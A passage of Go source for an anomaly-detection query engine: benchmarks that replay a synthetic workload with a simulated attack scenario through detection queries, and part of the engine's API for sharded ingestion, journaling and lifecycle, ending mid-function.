	if err := eng.Close(); err != nil {
		t.Fatal(err)
	}
	wg.Wait()
	// Final sum 2000 > 1500: exactly one alert at flush carrying the full
	// pre-swap prefix.
	if len(alerts) != 1 || !strings.Contains(alerts[0].String(), "2000") {
		t.Errorf("alerts = %v, want one with sum 2000", alerts)
	}
}
