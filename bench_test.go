package saql

// Benchmarks regenerating the paper's experiments E1–E8 (see DESIGN.md §4
// and EXPERIMENTS.md). Each benchmark corresponds to one table/figure-
// equivalent; cmd/saql-bench prints the same measurements as paper-style
// tables.

import (
	"context"
	"fmt"
	"sort"
	"sync"
	"testing"
	"time"
)

func benchCtx() context.Context { return context.Background() }

var benchOnce sync.Once
var benchEvents []*Event
var benchScenario *AttackScenario

// benchStream builds one mixed background+attack stream reused by all
// benchmarks (generation cost excluded from timings).
func benchStream(b *testing.B) ([]*Event, *AttackScenario) {
	b.Helper()
	benchOnce.Do(func() {
		start := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)
		wl, err := NewWorkload(WorkloadConfig{
			Hosts: []Host{
				{AgentID: "ws-victim", Kind: Workstation},
				{AgentID: "ws-2", Kind: Workstation},
				{AgentID: "mail-1", Kind: MailServer},
				{AgentID: "web-1", Kind: WebServer},
				{AgentID: "db-1", Kind: DBServer},
			},
			Start:    start,
			Duration: 30 * time.Minute,
			Seed:     42,
		})
		if err != nil {
			panic(err)
		}
		events := wl.Drain()
		benchScenario = &AttackScenario{
			Workstation: "ws-victim", MailServer: "mail-1", DBServer: "db-1",
			AttackerIP: "172.16.0.129", Start: start.Add(12 * time.Minute),
		}
		events = append(events, AttackEventsOnly(benchScenario.Events())...)
		sort.SliceStable(events, func(i, j int) bool { return events[i].Time.Before(events[j].Time) })
		benchEvents = events
	})
	return benchEvents, benchScenario
}

// runQueries pumps b.N events (cycling over the stream) through an engine.
func runQueries(b *testing.B, queries []NamedQuery, sharing bool) {
	b.Helper()
	events, _ := benchStream(b)
	eng := New(WithSharing(sharing))
	for _, nq := range queries {
		if err := eng.AddQuery(nq.Name, nq.SAQL); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		eng.Process(events[i%len(events)])
	}
	b.StopTimer()
	eng.Flush()
	b.ReportMetric(float64(eng.Stats().Alerts), "alerts")
}

// --- E1: the paper's Queries 1–4 -------------------------------------------

func BenchmarkE1_PaperQueries(b *testing.B) {
	_, scenario := benchStream(b)
	all := scenario.DemoQueries(30*time.Second, 5)
	cases := map[string]NamedQuery{
		"Q1_rule":       all[4], // the exfiltration rule (paper Query 1)
		"Q2_timeseries": all[6],
		"Q3_invariant":  all[5],
		"Q4_outlier":    all[7],
	}
	for name, nq := range cases {
		b.Run(name, func(b *testing.B) { runQueries(b, []NamedQuery{nq}, true) })
	}
}

// --- E2: the full 8-query kill-chain demo ----------------------------------

func BenchmarkE2_KillChain(b *testing.B) {
	_, scenario := benchStream(b)
	runQueries(b, scenario.DemoQueries(30*time.Second, 5), true)
}

// --- E3: concurrent-query scaling, sharing vs per-query copies -------------

// e3Queries builds n semantically compatible variants of the time-series
// query (same patterns, different thresholds), the concurrent-analyst
// situation the master–dependent-query scheme targets.
func e3Queries(scenario *AttackScenario, n int) []NamedQuery {
	base := scenario.DemoQueries(30*time.Second, 5)[6]
	out := make([]NamedQuery, n)
	for i := range out {
		out[i] = base
		out[i].Name = fmt.Sprintf("%s-v%d", base.Name, i)
		out[i].SAQL = base.SAQL + fmt.Sprintf("\nalert ss[0].avg_amount > %d", 1000000+i*1000)
	}
	return out
}

func BenchmarkE3_ConcurrentQueries(b *testing.B) {
	_, scenario := benchStream(b)
	for _, n := range []int{1, 4, 16, 64} {
		queries := e3Queries(scenario, n)
		b.Run(fmt.Sprintf("saql_shared/queries=%d", n), func(b *testing.B) {
			runQueries(b, queries, true)
		})
		b.Run(fmt.Sprintf("saql_noshare/queries=%d", n), func(b *testing.B) {
			runQueries(b, queries, false)
		})
		b.Run(fmt.Sprintf("baseline_cep/queries=%d", n), func(b *testing.B) {
			events, _ := benchStream(b)
			eng := NewBaselineEngine()
			for _, nq := range queries {
				q, err := CompileQuery(nq.Name, nq.SAQL)
				if err != nil {
					b.Fatal(err)
				}
				eng.Add(q)
			}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				eng.Process(events[i%len(events)])
			}
		})
	}
}

// --- E9: parallel ingestion throughput (sharded runtime) --------------------

// BenchmarkE9_ParallelIngestion measures the concurrent ingestion API
// (Start / SubmitBatch / sharded runtime) against the serial Process path
// on the sharable-query workload: 16 semantically compatible time-series
// variants whose per-group aggregation state partitions across shards
// (PlaceByGroup). Compare serial vs shards=N events/s for the speedup.
//
// The router pre-evaluates pattern hits once per event (shared
// evaluation), so the patevals/ev metric must stay flat as shards grow —
// it equals the serial count at every shard width. Events are then
// partition-routed rather than broadcast: each shard receives batched
// (event, hit-set) entries only for the group/event/pinned state it owns,
// plus watermark-bearing touch entries that keep window cadence aligned,
// so per-shard folding work shrinks as shards grow. Wall-clock speedup
// over serial follows wherever GOMAXPROCS >= shards. On a single-core
// machine ns/op instead reports the summed cost across shards.
func BenchmarkE9_ParallelIngestion(b *testing.B) {
	_, scenario := benchStream(b)
	queries := e3Queries(scenario, 16)

	newEngine := func(b *testing.B, opts ...Option) *Engine {
		eng := New(opts...)
		for _, nq := range queries {
			if err := eng.AddQuery(nq.Name, nq.SAQL); err != nil {
				b.Fatal(err)
			}
		}
		return eng
	}

	// patEvalsPerEvent reports how much pattern-matching work the engine
	// performed per event: the tentpole acceptance metric (flat in the
	// shard count under shared evaluation).
	patEvalsPerEvent := func(b *testing.B, eng *Engine) {
		b.Helper()
		st := eng.Stats()
		if st.Events > 0 {
			b.ReportMetric(float64(st.PatternEvals)/float64(st.Events), "patevals/ev")
		}
	}

	b.Run("serial", func(b *testing.B) {
		events, _ := benchStream(b)
		eng := newEngine(b)
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			eng.Process(events[i%len(events)])
		}
		b.StopTimer()
		eng.Flush()
		patEvalsPerEvent(b, eng)
	})

	for _, shards := range []int{1, 2, 4, 8} {
		b.Run(fmt.Sprintf("shards=%d", shards), func(b *testing.B) {
			events, _ := benchStream(b)
			eng := newEngine(b, WithShards(shards), WithIngestQueue(64))
			if err := eng.Start(benchCtx()); err != nil {
				b.Fatal(err)
			}
			const batch = 512
			b.ReportAllocs()
			b.ResetTimer()
			buf := make([]*Event, 0, batch)
			for i := 0; i < b.N; i++ {
				buf = append(buf, events[i%len(events)])
				if len(buf) == batch {
					if err := eng.SubmitBatch(buf); err != nil {
						b.Fatal(err)
					}
					buf = make([]*Event, 0, batch)
				}
			}
			if err := eng.SubmitBatch(buf); err != nil {
				b.Fatal(err)
			}
			// Close drains and flushes: include it so the measurement
			// covers the full processing, not just enqueueing.
			if err := eng.Close(); err != nil {
				b.Fatal(err)
			}
			b.StopTimer()
			patEvalsPerEvent(b, eng)
		})
	}
}

// --- E4: per-model engine overhead ------------------------------------------

func BenchmarkE4_ModelOverhead(b *testing.B) {
	_, scenario := benchStream(b)
	all := scenario.DemoQueries(30*time.Second, 5)
	models := map[string]NamedQuery{
		"rule":       all[4],
		"timeseries": all[6],
		"invariant":  all[5],
		"outlier":    all[7],
	}
	for name, nq := range models {
		b.Run(name, func(b *testing.B) {
			events, _ := benchStream(b)
			q, err := CompileQuery(nq.Name, nq.SAQL)
			if err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				q.Process(events[i%len(events)], nil)
			}
		})
	}
}

// --- E5: stream replayer throughput ------------------------------------------

func BenchmarkE5_Replayer(b *testing.B) {
	events, _ := benchStream(b)
	dir := b.TempDir()
	store, err := OpenStore(dir, StoreOptions{})
	if err != nil {
		b.Fatal(err)
	}
	if err := store.AppendAll(events); err != nil {
		b.Fatal(err)
	}

	b.Run("store_append", func(b *testing.B) {
		dir := b.TempDir()
		s, _ := OpenStore(dir, StoreOptions{})
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; i < b.N; i++ {
			if err := s.Append(events[i%len(events)]); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("replay_maxspeed", func(b *testing.B) {
		rep := NewReplayer(store)
		b.ReportAllocs()
		b.ResetTimer()
		done := 0
		for done < b.N {
			stats, err := rep.Replay(benchCtx(), ReplayOptions{Speed: 0}, func(*Event) error { return nil })
			if err != nil {
				b.Fatal(err)
			}
			done += int(stats.Events)
		}
	})
}

// --- E6: window state maintenance --------------------------------------------

func BenchmarkE6_Windows(b *testing.B) {
	for _, win := range []string{"10 s", "1 min", "10 min"} {
		b.Run("len="+win, func(b *testing.B) {
			events, _ := benchStream(b)
			src := fmt.Sprintf(`proc p write ip i as evt #time(%s)
state[3] ss { avg_amount := avg(evt.amount) } group by p
alert ss[0].avg_amount > 1000000000
return p`, win)
			q, err := CompileQuery("win", src)
			if err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				q.Process(events[i%len(events)], nil)
			}
		})
	}
	// Group cardinality ablation: group by process vs by destination IP
	// (many more groups).
	for _, g := range []struct{ name, expr string }{
		{"groups=proc", "p"},
		{"groups=dstip", "i.dstip"},
		{"groups=proc_and_ip", "p, i.dstip"},
	} {
		b.Run(g.name, func(b *testing.B) {
			events, _ := benchStream(b)
			src := fmt.Sprintf(`proc p write ip i as evt #time(1 min)
state ss { amt := sum(evt.amount) } group by %s
alert ss.amt > 1000000000
return %s`, g.expr, "ss.amt")
			q, err := CompileQuery("grp", src)
			if err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			b.ResetTimer()
			for i := 0; i < b.N; i++ {
				q.Process(events[i%len(events)], nil)
			}
		})
	}
}

// --- E7: clustering (outlier model) -------------------------------------------

func BenchmarkE7_Clustering(b *testing.B) {
	// The engine clusters one point per group at window close; this
	// isolates the clustering cost via increasingly many dstip groups fed
	// to the paper's DBSCAN spec and the KMEANS ablation.
	for _, method := range []string{`DBSCAN(100000, 3)`, `KMEANS(3)`} {
		for _, groups := range []int{16, 64, 256} {
			name := fmt.Sprintf("%s/groups=%d", method[:6], groups)
			b.Run(name, func(b *testing.B) {
				src := fmt.Sprintf(`proc p write ip i as evt #time(10 s)
state ss { amt := sum(evt.amount) } group by i.dstip
cluster(points=all(ss.amt), distance="ed", method=%q)
alert cluster.outlier && ss.amt > 1000000
return i.dstip, ss.amt`, method)
				q, err := CompileQuery("clu", src)
				if err != nil {
					b.Fatal(err)
				}
				// Synthetic per-group traffic: one event per group per
				// window.
				start := time.Date(2020, 2, 27, 9, 0, 0, 0, time.UTC)
				var evs []*Event
				for w := 0; w < 64; w++ {
					for g := 0; g < groups; g++ {
						evs = append(evs, &Event{
							Time:    start.Add(time.Duration(w)*10*time.Second + time.Duration(g)*time.Millisecond),
							AgentID: "db-1",
							Subject: Process("sqlservr.exe", 1680),
							Op:      OpWrite,
							Object:  NetConn("10.0.0.2", 1433, fmt.Sprintf("10.0.%d.%d", g/250, g%250), 49000),
							Amount:  50000 + float64(g),
						})
					}
				}
				b.ReportAllocs()
				b.ResetTimer()
				for i := 0; i < b.N; i++ {
					q.Process(evs[i%len(evs)], nil)
				}
			})
		}
	}
}

// --- E8: parser/compiler throughput -------------------------------------------

func BenchmarkE8_Parser(b *testing.B) {
	_, scenario := benchStream(b)
	queries := scenario.DemoQueries(30*time.Second, 5)
	b.Run("validate", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			if err := Validate(queries[i%len(queries)].SAQL); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("compile", func(b *testing.B) {
		b.ReportAllocs()
		for i := 0; i < b.N; i++ {
			nq := queries[i%len(queries)]
			if _, err := CompileQuery(nq.Name, nq.SAQL); err != nil {
				b.Fatal(err)
			}
		}
	})
}
