package saql

import (
	"context"
	"errors"
	"fmt"
	goruntime "runtime"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"saql/internal/engine"
	"saql/internal/event"
	"saql/internal/parser"
	"saql/internal/runtime"
	"saql/internal/scheduler"
	"saql/internal/sema"
	"saql/internal/source"
	"saql/internal/storage"
)

// Alert is a detection raised by a query (re-exported engine type).
type Alert = engine.Alert

// NamedValue is one returned attribute of an alert.
type NamedValue = engine.NamedValue

// ModelKind classifies queries by anomaly model family.
type ModelKind = engine.ModelKind

// Anomaly model kinds.
const (
	KindRule       = engine.KindRule
	KindTimeSeries = engine.KindTimeSeries
	KindInvariant  = engine.KindInvariant
	KindOutlier    = engine.KindOutlier
	KindStateful   = engine.KindStateful
)

// QueryError is a runtime error attributed to a query.
type QueryError = engine.QueryError

// QueryStats are the per-query runtime counters (see Engine.QueryStats and
// QueryHandle.Stats).
type QueryStats = engine.QueryStats

// CompileOptions tune a query's resource bounds (match horizon, partial
// and distinct table caps, group idle eviction).
type CompileOptions = engine.CompileOptions

// AlertSubscription is a push-based alert stream returned by Subscribe.
type AlertSubscription = runtime.AlertSubscription

// Placement classifies how a query's state is distributed across shards.
type Placement = engine.Placement

// Shard placements (see doc.go, "Shard placement").
const (
	PlacePinned  = engine.PlacePinned
	PlaceByGroup = engine.PlaceByGroup
	PlaceByEvent = engine.PlaceByEvent
)

// Lifecycle errors.
var (
	// ErrNotRunning is returned by Submit/SubmitBatch before Start.
	ErrNotRunning = errors.New("saql: engine not started")
	// ErrAlreadyRunning is returned by Start/Run on a started engine.
	ErrAlreadyRunning = errors.New("saql: engine already started")
	// ErrClosed is returned by operations on a closed engine.
	ErrClosed = runtime.ErrClosed
)

// Stats summarises engine activity. The sharing counters (StreamCopies,
// NaiveCopies, PatternEvals, NaivePatternEvals, SharingRatio) count only
// active — non-paused — queries, and on a running engine they reflect the
// router's shared evaluation stage: pattern predicates are evaluated once
// per event regardless of the shard count.
type Stats struct {
	Events       int64
	Alerts       int64
	Queries      int
	QueryGroups  int
	StreamCopies int64
	NaiveCopies  int64
	SharingRatio float64
	// PatternEvals counts pattern-predicate evaluations actually performed;
	// NaivePatternEvals what per-query execution would have performed.
	PatternEvals      int64
	NaivePatternEvals int64
	// Dropped counts events discarded by DropNewest ingest overflow.
	Dropped int64

	// Symbol-dictionary counters (the codec intern tables that stamp stable
	// small-integer symbol IDs on hot string attributes at decode time, so
	// compiled equality predicates compare integers instead of strings).
	// All four are scoped to this engine: Entries/Hits/Misses aggregate the
	// intern tables of sources that fed this engine (live and detached), and
	// Fallbacks counts string comparisons that could not use symbols in this
	// engine's compiled queries. Two engines in one process report disjoint
	// values; symtab.Snapshot still has the process-wide dictionary totals.
	SymbolEntries   int
	SymbolHits      int64
	SymbolMisses    int64
	SymbolFallbacks int64

	// Ingestion-source counters, aggregated over every Source that has Run
	// against this engine (see NewSource/OpenLogFile/ListenTCP). Sources
	// counts only currently-attached (running) sources; the cumulative
	// counters below keep the contributions of sources that have finished
	// and detached.
	Sources       int   // sources currently attached
	SourceLines   int64 // raw log lines consumed
	SourceEvents  int64 // events decoded and batched
	DecodeErrors  int64 // log lines the codecs rejected
	SourceDropped int64 // out-of-order events dropped by WithStrictOrder
}

// Option configures an Engine.
type Option func(*config)

type config struct {
	sharing   bool
	compile   engine.CompileOptions
	onAlert   func(*Alert)
	onError   func(*QueryError)
	errDepth  int
	shards    int
	queueSize int
	overflow  OverflowPolicy
	// journal, when set, durably records every ingested event (see
	// WithJournal); baseOffset seeds the stream-offset counter so a
	// restored engine's checkpoints index the same journal coordinates.
	// Restore pins baseOffset explicitly (baseOffsetSet); otherwise it is
	// resolved lazily from the journal's existing record count, so a
	// journal left by a run that crashed before its first checkpoint is
	// never re-indexed from zero.
	journal       *storage.Store
	baseOffset    int64
	baseOffsetSet bool
	// ranges, when non-empty, restrict the engine to the owned slices of
	// the ownership hash space (WithKeyRanges; the distributed-worker case).
	ranges []KeyRange
}

// WithSharing toggles the master–dependent-query scheme (default on).
// Disabling it executes every query independently, the configuration used
// as the SAQL-side ablation in the concurrency experiments.
func WithSharing(on bool) Option { return func(c *config) { c.sharing = on } }

// WithCompileOptions overrides the default resource bounds applied to every
// query the engine compiles (Register's WithQueryCompileOptions overrides
// them per query).
func WithCompileOptions(opts CompileOptions) Option {
	return func(c *config) { c.compile = opts }
}

// WithAlertHandler installs a callback invoked serially for every alert, in
// addition to alerts flowing to subscriptions (and, on the legacy serial
// path, being returned from Process). After Start the callback runs on
// runtime goroutines, never concurrently with itself.
func WithAlertHandler(fn func(*Alert)) Option { return func(c *config) { c.onAlert = fn } }

// WithErrorHandler installs a callback invoked for every runtime query
// error. After Start it may be invoked from runtime goroutines.
func WithErrorHandler(fn func(*QueryError)) Option { return func(c *config) { c.onError = fn } }

// WithShards sets how many shard workers Start spins up (default
// GOMAXPROCS). Each worker owns a scheduler shard; see doc.go for the
// query-placement rules.
func WithShards(n int) Option { return func(c *config) { c.shards = n } }

// WithIngestQueue bounds the ingest queue (in submissions; default 1024).
func WithIngestQueue(size int) Option { return func(c *config) { c.queueSize = size } }

// WithBackpressure selects Submit's behaviour when the ingest queue is
// full: Block (default) waits for capacity, DropNewest discards the
// submission and counts it in Stats.Dropped.
func WithBackpressure(p OverflowPolicy) Option { return func(c *config) { c.overflow = p } }

// engineState tracks the lifecycle: New (serial, accepting Process) ->
// Running (concurrent, accepting Submit) -> Closed.
type engineState int32

const (
	stateNew engineState = iota
	stateRunning
	stateClosed
)

// Engine is the SAQL anomaly query engine: it manages concurrent queries
// over the system event stream and reports alerts. Engine is safe for
// concurrent use.
//
// An Engine starts in the serial state, where the synchronous Process /
// Flush / Run methods drive all queries on the caller's goroutine. Calling
// Start moves it to the running state: events enter through the
// non-blocking Submit / SubmitBatch ingestion API, are fanned across shard
// workers, and alerts are delivered through Subscribe streams and the
// WithAlertHandler callback. Close drains, flushes, and ends all
// subscriptions.
type Engine struct {
	cfg      config
	reporter *engine.ErrorReporter
	sched    *scheduler.Scheduler // serial-state scheduler
	fan      *runtime.AlertFanout

	state    atomic.Int32
	rt       atomic.Pointer[runtime.Runtime]
	closedCh chan struct{}

	mu  sync.Mutex // guards reg and state transitions
	reg map[string]*queryRecord

	srcMu   sync.Mutex // guards ingests and srcTotals
	ingests []*source.Source
	// srcTotals accumulates the final counters of detached (finished)
	// sources, so cumulative line/event/symbol totals survive source churn
	// while Stats.Sources tracks only live attachments.
	srcTotals source.Stats

	// fallbacks receives the string-fallback counts of every query this
	// engine compiles (CompileOptions.Fallbacks points here), keeping the
	// counter per-engine rather than process-global.
	fallbacks atomic.Int64

	// final, once non-nil, is the immutable runtime-counter snapshot taken
	// by Close; Stats and QueryStats serve it afterwards so post-run
	// summaries stay truthful (see captureFinal).
	final atomic.Pointer[finalStats]

	// Tenant control plane (tenant.go): per-tenant quota and accounting
	// state, plus the stream-time high-water mark of alert event times.
	tenMu    sync.Mutex
	tenants  map[string]*tenantState
	alertMax time.Time

	// jmu pins the serial path's journal-append order to its processing
	// order when WithJournal is active (the sharded runtime has its own
	// equivalent lock). It is never taken unless a journal is configured, so
	// journal-less serial Process keeps its lock-free callback guarantees.
	jmu sync.Mutex

	// baseMu guards the one-time resolution of the journal's base offset
	// (see journalBase / pinBaseOffset).
	baseMu       sync.Mutex
	baseResolved bool

	// ckptMu serialises whole checkpoints (barrier capture + snapshot
	// install) against each other, while the engine lock is held only for
	// the in-memory capture — the control plane never waits on checkpoint
	// disk I/O.
	ckptMu sync.Mutex
}

// journalBase resolves the stream-offset origin for a journaled engine:
// the value Restore pinned, the value an early ReplayJournal pinned, or —
// for a fresh engine attached to a journal directory whose records it will
// not replay — the journal's existing record count. Either way, stream
// offsets always equal journal record positions, even when a previous run
// died before writing any checkpoint.
func (e *Engine) journalBase() (int64, error) {
	e.baseMu.Lock()
	defer e.baseMu.Unlock()
	if e.baseResolved || e.cfg.journal == nil || e.cfg.baseOffsetSet {
		e.baseResolved = true
		return e.cfg.baseOffset, nil
	}
	// A crash may have left the journal's unsealed tail ending in a torn
	// record; trim it before counting so first use of a recovered journal
	// just works. A store that already has an active segment (the caller
	// appended through the same handle) is left alone; sealed-segment
	// corruption still fails below, in Count.
	if _, err := e.cfg.journal.Repair(); err != nil && !errors.Is(err, storage.ErrActiveStore) {
		return 0, err
	}
	n, err := e.cfg.journal.Count()
	if err != nil {
		return 0, err
	}
	e.cfg.baseOffset = n
	e.baseResolved = true
	return n, nil
}

// pinBaseOffset fixes the stream-offset origin explicitly — the path
// ReplayJournal uses on a not-yet-started engine, where the replayed
// records themselves will advance the engine to the journal's head. It
// fails once the origin has already been resolved to a different value
// (events were processed, or the engine started, under other coordinates).
func (e *Engine) pinBaseOffset(off int64) error {
	e.baseMu.Lock()
	defer e.baseMu.Unlock()
	// An explicitly pinned origin (Restore) counts as resolved even before
	// journalBase runs: replaying from any other offset into restored state
	// would fold prefix events in twice.
	if (e.baseResolved || e.cfg.baseOffsetSet) && e.cfg.baseOffset != off {
		return fmt.Errorf("saql: journal offset coordinates already fixed at %d", e.cfg.baseOffset)
	}
	e.cfg.baseOffset = off
	e.baseResolved = true
	return nil
}

// queryRecord is the engine-side state behind one registered query: its
// source, compile options, live compiled form (the primary replica on a
// running engine), owning handle, and control-plane flags.
type queryRecord struct {
	name    string
	src     string
	compile engine.CompileOptions
	q       *engine.Query
	handle  *QueryHandle
	paused  bool
	managed bool // owned by Engine.Apply reconciliation
	subs    []*AlertSubscription
}

// New creates an engine.
func New(opts ...Option) *Engine {
	cfg := config{
		sharing:   true,
		errDepth:  128,
		shards:    goruntime.GOMAXPROCS(0),
		queueSize: 1024,
		overflow:  Block,
	}
	for _, o := range opts {
		o(&cfg)
	}
	rep := engine.NewErrorReporter(cfg.errDepth, cfg.onError)
	e := &Engine{
		cfg:      cfg,
		reporter: rep,
		sched:    scheduler.New(rep, cfg.sharing),
		fan:      runtime.NewAlertFanout(cfg.onAlert),
		closedCh: make(chan struct{}),
		reg:      map[string]*queryRecord{},
		tenants:  map[string]*tenantState{},
	}
	// Every query compiled through this engine's options charges its string
	// fallbacks here, not to the process-global counter.
	e.cfg.compile.Fallbacks = &e.fallbacks
	// Tenant alert budgets gate delivery at the single fan-out choke point,
	// on both the serial and sharded paths. Installed before any publishing
	// goroutine can exist.
	e.fan.SetGate(e.admitAlert)
	return e
}

// ---------------------------------------------------------------------------
// Lifecycle
// ---------------------------------------------------------------------------

// Start moves the engine to the running state: it spins up the sharded
// runtime (WithShards workers behind a bounded ingest queue) and enables
// Submit/SubmitBatch. Queries registered so far are distributed across the
// shards; AddQuery/RemoveQuery keep working while running. Cancelling ctx
// closes the engine (equivalent to Close). Start returns
// ErrAlreadyRunning on a running engine and ErrClosed on a closed one.
func (e *Engine) Start(ctx context.Context) error {
	e.mu.Lock()
	defer e.mu.Unlock()
	switch engineState(e.state.Load()) {
	case stateRunning:
		return ErrAlreadyRunning
	case stateClosed:
		return ErrClosed
	}
	rtCfg := runtime.Config{
		Shards:    e.cfg.shards,
		QueueSize: e.cfg.queueSize,
		Overflow:  e.cfg.overflow,
		Sharing:   e.cfg.sharing,
		Reporter:  e.reporter,
		Fan:       e.fan,
		Owns:      e.cfg.ownsFunc(),
	}
	if e.cfg.journal != nil {
		store := e.cfg.journal
		base, err := e.journalBase()
		if err != nil {
			return err
		}
		rtCfg.Journal = store.AppendAll
		// Events the serial path already journaled and processed are part of
		// the runtime's stream-offset coordinate space.
		rtCfg.BaseOffset = base + e.sched.Stats().Events
	}
	rt := runtime.Start(rtCfg)
	// Distribute the already-registered queries in name order so pinned
	// home-shard assignment is deterministic. The primary replicas carry
	// their pause flags; cloneFor stamps them onto the extra replicas.
	names := make([]string, 0, len(e.reg))
	for name := range e.reg {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		rec := e.reg[name]
		if err := rt.Add(rec.q, cloneFor(rec)); err != nil {
			rt.Close()
			return err
		}
	}
	e.rt.Store(rt)
	e.state.Store(int32(stateRunning))
	if ctx != nil && ctx.Done() != nil {
		go func() {
			select {
			case <-ctx.Done():
				_ = e.Close()
			case <-e.closedCh:
			}
		}()
	}
	return nil
}

// Close moves the engine to the closed state: the ingest queue is drained,
// every shard flushes its open windows (final alerts flow to subscriptions
// and the alert handler), all subscriptions end, and the workers exit.
// Close is idempotent; concurrent calls wait for the first to finish. A
// never-started engine closes immediately (subscriptions end, Process is
// disabled).
func (e *Engine) Close() error {
	e.mu.Lock()
	prev := engineState(e.state.Load())
	e.state.Store(int32(stateClosed))
	rt := e.rt.Load()
	if prev != stateClosed {
		close(e.closedCh)
	}
	e.mu.Unlock()

	if rt != nil {
		rt.Close() // idempotent; closes the fan-out
		e.captureFinal(rt)
	} else if prev != stateClosed {
		e.fan.Close()
	}
	if store := e.cfg.journal; store != nil && prev != stateClosed {
		// Seal the journal after the final drain so every accepted event is
		// durably indexed; the store stays scannable for replay.
		if err := store.Close(); err != nil {
			e.reporter.Report("", err)
		}
	}
	return nil
}

// ---------------------------------------------------------------------------
// Query management (the handle-based API lives in query.go)
// ---------------------------------------------------------------------------

// cloneFor builds the replica factory for a query record: the sharded
// runtime invokes it once per extra shard a distributed placement needs.
// Values are captured eagerly so the clone is consistent with the record at
// the moment the control operation was planned.
func cloneFor(rec *queryRecord) func() (*engine.Query, error) {
	name, src, compile, paused := rec.name, rec.src, rec.compile, rec.paused
	return func() (*engine.Query, error) {
		q, err := engine.Compile(name, src, compile)
		if err == nil && paused {
			q.SetPaused(true)
		}
		return q, err
	}
}

// AddQuery parses, checks, compiles, and registers a SAQL query under name.
//
// Deprecated: AddQuery is a thin wrapper over Register that discards the
// query's handle. Use Register, which returns a QueryHandle for pausing,
// hot-swapping, per-query alert streams, and removal.
func (e *Engine) AddQuery(name, src string) error {
	_, err := e.Register(name, src)
	return err
}

// RemoveQuery unregisters a query, reporting whether it was found and
// removed. Lookup and removal happen under one lock hold, so of two
// concurrent removers exactly one reports true.
//
// Deprecated: RemoveQuery is the pre-handle removal API. Hold the
// *QueryHandle returned by Register and call Close on it.
func (e *Engine) RemoveQuery(name string) bool {
	e.mu.Lock()
	rec := e.reg[name]
	if rec == nil {
		e.mu.Unlock()
		return false
	}
	subs, err := e.closeLocked(rec)
	e.mu.Unlock()
	for _, sub := range subs {
		e.fan.End(sub, ErrQueryClosed)
	}
	return err == nil
}

// QueryKind reports the anomaly model family of a registered query.
func (e *Engine) QueryKind(name string) (ModelKind, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	rec, ok := e.reg[name]
	if !ok {
		return 0, false
	}
	return rec.q.Kind, true
}

// QueryPlacement reports how a registered query is (or would be)
// distributed across shards: PlaceByGroup, PlaceByEvent, or PlacePinned.
func (e *Engine) QueryPlacement(name string) (Placement, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	rec, ok := e.reg[name]
	if !ok {
		return 0, false
	}
	return rec.q.Placement(), true
}

// ---------------------------------------------------------------------------
// Concurrent ingestion API
// ---------------------------------------------------------------------------

// Submit enqueues one event for processing. The engine must be running
// (Start). Under the Block backpressure policy Submit waits for queue
// space; under DropNewest it discards the event when the queue is full and
// counts it in Stats.Dropped. The engine owns the event after Submit
// returns; callers must not mutate it.
func (e *Engine) Submit(ev *Event) error {
	rt, err := e.running()
	if err != nil {
		return err
	}
	return rt.Submit(ev)
}

// SubmitBatch enqueues a batch of events as a single queue item, amortising
// queue traffic for high-rate feeds. Events in a batch are processed in
// order. Under DropNewest overflow the whole batch is discarded together.
func (e *Engine) SubmitBatch(evs []*Event) error {
	rt, err := e.running()
	if err != nil {
		return err
	}
	return rt.SubmitBatch(evs)
}

func (e *Engine) running() (*runtime.Runtime, error) {
	switch engineState(e.state.Load()) {
	case stateNew:
		return nil, ErrNotRunning
	case stateClosed:
		return nil, ErrClosed
	}
	return e.rt.Load(), nil
}

// Subscribe registers a push-based alert stream carrying every alert the
// engine raises (from both the concurrent and the legacy serial path).
// Multiple subscribers each receive every alert. buf bounds the channel;
// policy selects Block backpressure or DropNewest when the subscriber
// falls behind (drops are counted per subscription). Subscribing to a
// closed engine returns a subscription whose channel is already closed and
// whose Err reports ErrClosed, so a late subscriber can tell a dead stream
// from an idle one. For a stream carrying a single query's alerts, use
// QueryHandle.Subscribe.
func (e *Engine) Subscribe(buf int, policy OverflowPolicy) *AlertSubscription {
	return e.fan.Subscribe(buf, policy)
}

// ---------------------------------------------------------------------------
// Legacy serial API (pre-Start engines)
// ---------------------------------------------------------------------------

// Process feeds one event through all queries and returns the alerts
// raised.
//
// Deprecated: Process is the legacy serial ingestion path; prefer Start +
// Submit/SubmitBatch + Subscribe. It remains fully supported on a
// never-started engine. On a running engine it forwards the event to
// Submit and returns nil (alerts flow to subscriptions and the alert
// handler); on a closed engine it returns nil.
func (e *Engine) Process(ev *Event) []*Alert {
	switch engineState(e.state.Load()) {
	case stateRunning:
		if rt := e.rt.Load(); rt != nil {
			_ = rt.Submit(ev)
		}
		return nil
	case stateClosed:
		return nil
	}
	// Serial path: the scheduler serialises event processing internally,
	// and no Engine lock is held here, so alert handlers and subscribers
	// are free to call back into the Engine. With a journal configured the
	// append and the processing share one lock hold, pinning the journal
	// order to the processing order checkpoint offsets index.
	if store := e.cfg.journal; store != nil {
		if _, err := e.journalBase(); err != nil {
			e.reporter.Report("", err)
			return nil
		}
		e.jmu.Lock()
		if err := store.Append(ev); err != nil {
			// An unjournaled event must not be processed: counting it would
			// desync checkpoint offsets from the journal's contents and make
			// a later replay skip a real tail event. Same contract as the
			// sharded path, which rejects the whole batch.
			e.jmu.Unlock()
			e.reporter.Report("", err)
			return nil
		}
		alerts := e.sched.Process(ev)
		e.jmu.Unlock()
		e.fan.Publish(alerts)
		return alerts
	}
